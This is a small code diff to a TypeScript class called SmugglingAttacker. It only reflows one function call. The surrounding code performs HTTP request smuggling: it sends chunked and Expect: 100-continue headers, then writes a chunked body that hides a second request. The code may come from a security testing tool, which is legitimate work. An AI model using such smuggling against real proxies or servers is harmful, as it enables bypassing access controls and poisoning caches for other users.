@@ -35,7 +35,11 @@ export class SmugglingAttacker {
 
   /** Sends the request with the hidden one. A proxy may count a body that comes at once, so it comes a little later. */
   async strike(): Promise<void> {
-    const connection = await this.#send(this.#method, carrier, 'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n');
+    const connection = await this.#send(
+      this.#method,
+      carrier,
+      'Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n',
+    );
     if (await connection.isContinued())
       connection.write(`${this.#hidden.length.toString(16)}\r\n${this.#hidden}\r\n0\r\n\r\n`);
     await connection.next(this.#method);
